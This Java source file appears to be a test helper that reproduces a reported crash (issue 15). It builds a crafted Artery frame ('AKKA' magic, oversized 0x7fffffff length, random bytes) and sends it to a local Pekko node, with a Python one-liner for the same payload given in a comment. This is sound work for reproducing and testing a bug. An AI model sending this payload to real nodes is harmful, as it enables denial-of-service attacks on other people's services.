package io.ppsd.actors;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.Random;

/**
 * The ~1 KB payload that disabled a Pekko 1.7.0 node over plain TCP (issue 15): Artery's magic
 * {@code AKKA}, stream id 2, the frame length 0x7fffffff, then 1,000 random bytes — as
 * {@code s.sendall(b'AKKA\x02\xff\xff\xff\x7f' + os.urandom(1000))} from a Python socket.
 */
final class CraftedFrames {
    private CraftedFrames() {}

    static byte[] frame(long seed) {
        byte[] frame = new byte[9 + 1000];
        new Random(seed).nextBytes(frame);
        System.arraycopy(new byte[] {'A', 'K', 'K', 'A', 2, (byte) 0xff, (byte) 0xff, (byte) 0xff, 0x7f}, 0, frame, 0, 9);
        return frame;
    }

    /** Sends {@code count} of them to 127.0.0.1:port, one connection each; how many were written whole. */
    static int send(int port, int count) {
        int sent = 0;
        for (int i = 0; i < count; i++) {
            try (Socket s = new Socket()) {
                s.connect(new InetSocketAddress("127.0.0.1", port), 5000);
                OutputStream out = s.getOutputStream();
                out.write(frame(i));
                out.flush();
                sent++;
            } catch (IOException e) {
                // the node closed the connection first: fine too
            }
        }
        return sent;
    }
}
